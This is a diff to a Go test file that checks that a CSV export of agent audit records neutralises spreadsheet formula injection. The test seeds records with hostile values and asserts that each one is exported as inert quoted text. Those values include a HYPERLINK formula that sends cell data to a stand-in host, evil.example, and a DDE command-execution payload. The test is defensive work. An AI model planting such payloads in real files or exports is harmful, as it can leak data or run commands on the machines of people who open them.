@@ -113,3 +113,58 @@ func TestExportRoundTrips(t *testing.T) {
 		t.Fatalf("bad format: exit %d", code)
 	}
 }
+
+// A denial reason, an error or a tool name that starts like a formula is
+// exported as text: a spreadsheet opening the CSV evaluates none of them.
+func TestExportCSVHasNoFormulas(t *testing.T) {
+	ctx := context.Background()
+	file := filepath.Join(t.TempDir(), "rtcagent.db")
+	st, err := sqlitestore.Open(ctx, file, sqlitestore.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"}
+	err = st.Write(ctx, func(tx store.Tx) error {
+		for i, h := range hostile {
+			now := time.Now().UTC()
+			a := &protocol.AuditRecord{RTCID: fmt.Sprintf("r%d", i), UserID: "alice", SessionID: "S", TurnID: "T", ToolName: h,
+				Arguments: json.RawMessage(`{}`), Status: protocol.RTCRejected, Error: h, CreatedAt: now,
+				Decision: protocol.AuditDecision{Outcome: protocol.DecisionDenied, By: protocol.DecidedByUser, At: &now, Reason: h}}
+			if err := tx.AuditPut(a); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+	st.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out, errOut bytes.Buffer
+	if code := Main([]string{"export", "-data", file, "-format", "csv"}, &out, &errOut); code != 0 {
+		t.Fatalf("exit %d: %s", code, errOut.String())
+	}
+	rows, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(hostile)+1 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	for _, r := range rows[1:] {
+		for j, cell := range r {
+			if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@' || cell[0] == '\t' || cell[0] == '\r') {
+				t.Errorf("column %s is a live formula: %q", Columns[j], cell)
+			}
+		}
+		if want := "'" + hostile[indexOf(r[0])]; r[20] != want {
+			t.Errorf("error cell %q, want %q (the text kept, made inert)", r[20], want)
+		}
+	}
+}
+
+func indexOf(rtcID string) int {
+	var i int
+	fmt.Sscanf(rtcID, "r%d", &i)
+	return i
+}
